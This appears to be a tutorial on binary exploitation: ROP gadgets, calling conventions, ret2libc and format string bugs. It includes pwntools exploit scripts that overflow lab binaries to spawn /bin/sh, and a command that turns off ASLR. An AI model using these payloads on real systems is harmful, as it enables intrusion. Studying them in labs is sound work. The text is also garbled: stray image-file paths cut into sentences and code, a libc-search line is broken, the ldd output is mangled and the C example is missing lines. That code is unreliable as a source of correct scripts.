Gadgets are small snippets of code followed by a ret instruction, e.g. pop rdi; ret. We can manipulate the ret of these gadgets in such a way as tostring together a large chain of them to do what we want.


Let's for a minute pretend the stack looks like this during the execution of a pop rdi; ret gadget.


What happens is fairly obvious - 0x10 gets popped into rdi as it is at the top of the stack during the pop rdi. Once the pop occurs, rsp moves:


And since ret is equivalent to pop rip, 0x5655576724 gets moved into rip. Note how the stack is laid out for this.

Utilizing Gadgets

When we overwrite the return pointer, we overwrite the value pointed at by rsp. Once that value is popped, it points to the next value at the stack - but wait. We can overwrite the next value in the stack.

Let's say that we want to exploit a binary to jump to a poprdi; ret gadget, pop 0x100 into rdi then jump to flag(). Let's step-by-step the execution.


On the original ret, which we overwrite the return pointer for, we pop the gadget address in. Now rip moves to point to the gadget, and rsp moves to the next memory address.rsp moves to the 0x100; rip to the pop rdi. Now when we pop, 0x100 gets moved into rdi.


RSP moves to the next item on the stack, the address of the flag(). The ret is executed and flag() is called.


Essentially, if the gadget pops values from the stack, simply place those values afterward (including the pop rip in ret). If we want to pop 0x10 into rdi and then jump to 0x16, our payload would look like this:


Note if you have multiple pop instructions, you can just add more values.We use rdi as an example because, if you remember, that's the register for the first parameter in 64-bit. This means control of this register using this gadget is important.

Finding Gadgets

We can use the tool ROPgadget to find possible gadgets.

$ ROPgadget --binary vuln-64

Gadgets information
0x0000000000401069 : add ah, dh ; nop dword ptr [rax + rax] ; ret
0x000000000040109b : add bh, bh ; loopne 0x40110a ; nop ; ret
0x0000000000401037 : add byte ptr [rax], al ; add byte ptr [rax], al ; jmp 0x401024

Combine it with grep to look for specific registers.

$ROPgadget --binary vuln-64 | grep rdi

0x0000000000401096 : or dword ptr [rdi + 0x404030], edi ; jmp rax
0x00000000004011db : pop rdi ; ret

Exploiting Calling Conventions

Utilizing Calling Conventions



The program expects the stack to be laid out like this before executing the function:


So why don't we provide it like that? As well as the function, we also pass the return address and the parameters.


Everything after the address of flag() will be part of the stack frame for the next function as it is expected to be there - just instead of using push instructions we just overwrote them manually.

from pwn import *

p = process('./vuln-32')

payload = b'A' * 52            # Padding up to EIP
payload += p32(0x080491c7)     # Address of flag()
payload += p32(0x0)            # Return address - don't care if crashes when done
payload += p32(0xdeadc0de)     # First parameter
payload += p32(0xc0ded00d)     # Second parameterSame logic, except we have to utilize the gadgets we talked about previously to fill the required registers (in this case rdi and rsi as we have two parameters).

We have to fill the registers before the function is called

from pwn import *

p = process('./vuln-64')

POP_RDI, POP_RSI_R15 = 0x4011fb, 0x4011f9

payload = b'A' * 56            # Padding
payload += p64(POP_RDI)        # pop rdi; ret
payload += p64(0xdeadc0de)     # value into rdi -> first param
payload += p64(POP_RSI_R15)    # pop rsi; pop r15; ret
payload += p64(0xc0ded00d)     # value into rsi -> first param
payload += p64(0x0)            # value into r15 -> not important
payload += p64(0x40116f)       # Address of flag()
payload += p64(0x0)


The standard ROP exploit

A ret2libc is based on the system function found within the C library. This function executes anything passed to it making it the best target. Another thing found within libc is the string /bin/sh; if you pass this string to the system, it will pop a shell.And that is the entire basis of it - passing /bin/sh as a parameter to the system. Doesn't sound too bad, right?


Disabling ASLR

To start with, we are going to disable ASLR. ASLR randomizes the location of libc in memory, meaning we cannot (without other steps) work out the location of the system and /bin/sh. To understand the general theory, we will start with it disabled.

echo 0 | sudo tee /proc/sys/kernel/randomize_va_space

Manual Exploitation

Getting Libc and its base

Fortunately, Linux has a command called ldd for dynamic linking. If we run it on our compiled ELF file, it'll tell us the libraries it uses and their base addresses.$ ldd vuln-32 (0xf7fd2000) => /lib32/ (0xf7dc2000)
    /lib/ (0xf7fd3000)

We need, so the base address of libc is 0xf7dc2000.

Libc base and the system and /bin/sh offsets may be different for you. This isn't a problem - it just means you have a different libc version. Make sure you use your values.

Getting the location of the system()

To call the system, we obviously need its location in memory. We can use the readelf command for this.

$ readelf -s /lib32/ | grep system

1534: 00044f00    55 FUNC    WEAK   DEFAULT   14 system@@GLIBC_2.0

The -s flag tells readelf to search for symbols, for example, functions. Here we can find the offset of the system from the libc base is 0x44f00.

Getting the location of /bin/sh

Since /bin/sh is just a string, we can use strings on the dynamic library we just found with ldd. Note that when passing strings as parameters you need to pass a pointer to the string, not the hex representation of the string, because that's how C expects it.

$ strings -a -t x /lib32/ | grep /bin/sh
18c32b /bin/sh

-a tells it to scan the entire file; -t x tells it to output the offset in hex.

32-bit Exploit
from pwn import *p = process('./vuln-32')

libc_base = 0xf7dc2000
system = libc_base + 0x44f00
binsh = libc_base + 0x18c32b

payload = b'A' * 76         # The padding
payload += p32(system)      # Location of system
payload+= p32(0x0)         # return pointer - not important once we get the shell
payload += p32(binsh)       # pointer to command: /bin/sh

64-bit Exploit

Repeat the process with the libc linked to the 64-bit exploit (should be called something like /lib/x86_64-linux-gnu/

Note that instead of passing the parameter in after the return pointer, you will have to use a pop rdi; ret gadget to put it into the RDI register.

$ ROPgadget --binary vuln-64 | grep rdi

0x00000000004011cb : pop rdi ; ret
from pwn import *

p = process('./vuln-64')

libc_base = 0x7ffff7de5000
system = libc_base + 0x48e20
binsh = libc_base + 0x18a143POP_RDI = 0x4011cb

payload = b'A' * 72         # The padding
payload += p64(POP_RDI)     # gadget -> pop rdi; ret
payload += p64(binsh)       # pointer to command: /bin/sh
payload += p64(system)      # Location of system
payload += p64(0x0)         # return pointer - notimportant once we get the shell


Automating with Pwntools

Unsurprisingly, pwntools has a bunch of features that make this much simpler.

# 32-bit
from pwn import *elf = context.binary = ELF('./vuln-32')
p = process()

libc = elf.libc                        # Simply grab the libc it's running with
libc.address = 0xf7dc2000              # Set base address

system = libc.sym['system']            # Grab location of system
binsh = next('/bin/sh'))  # grab string location

payload = b'A' * 76         # The padding
payload += p32(system)      # Location of system
payload += p32(0x0)         # return pointer - not important once we get the shell
payload += p32(binsh)       # pointer to command: /bin/shThe 64-bit looks essentially the same.

Pwntools can simplify it even more with its ROP capabilities, but I won't showcase them here.

Format String Bug

Reading memory off the stack

Format String is a dangerous bug that is easily exploitable. If manipulated correctly, you can leverage it to perform powerful actions such as reading from and writing to arbitrary memory locations.

Why it exists

In C, certain functions can take "format specifier" within strings. Let's look at an example:

intvalue = 1205;

printf("Decimal: %d\nFloat: %f\nHex: 0x%x", value, (double) value, value);

This prints out:

Decimal: 1205
Float: 1205.000000
Hex: 0x4b5

So, it replaced %d with the value, %f with the float value and %x with the hex representation.

This is a nice way in C of formatting strings (string concatenation is quite complicated in C). Let's try print out the same value in hex 3 times:

int value = 1205;

printf("%x %x %x", value, value, value);

As expected, we get

4b5 4b5 4b5

What happens, however, if we don't have enough arguments for all the format specifiers?

int value = 1205;

printf("%x %x %x", value);
4b5 5659b000 565981b0

Erm... what happened here?

The key here is that printf expects as many parameters as format string specifiers, and in 32-bit it grabs these parameters fromthe stack. If there aren't enough parameters on the stack, it'll just grab the next values - essentially leaking values off the stack. And that's what makes it so dangerous.

How to abuse this

Surely if it's a bug in the code, the attacker can't do much, right? Well, the real issue is when C code takes user-provided input and prints it out using printf.


#include <stdio.h>int main(void) {
    char buffer[30];


    return 0;

If we run this normally, it works as expected:

$ ./test


But what happens if we input a format string specifier, such as %x?

$ ./test

%x %x %x %x %x
f7f74080 0 5657b1c0 782573fc 20782520

It reads values off thestack and returns them as the developer wasn't expecting so many format string specifiers.

Choosing Offsets

To print the same value 3 times, using

printf("%x %x %x", value, value, value);

Gets tedious - so, there is a better way in C.

printf("%1$x %1$x %1$x", value);

The 1$ between tells printf to use the first parameter. However, this also means that attackers can read values an arbitrary offset from the top of the stack - say we know there is a canary at the 6th %p - instead of sending %p %p %p %p %p %p, we can just do %6$p. This allows us to be much more efficient.

Arbitrary Reads

In C, when you want to use a string you use a pointer to the start of the string - this is essentially a value that represents a memory address. So when you use the %s format specifier, it's the pointer that gets passed to it. That means instead of reading a value of the stack, you read the value in the memory address it points at.Now this is all very interesting - if you can find a value on the stack that happens to correspond to where you want to read, that is. But what if we could specify where we want to read? Well... we can.

Let's look back at the previous program and its output:

$ ./test

%x %x %x %x %x %x
f7f74080 0 5657b1c0 782573fc 20782520 25207825

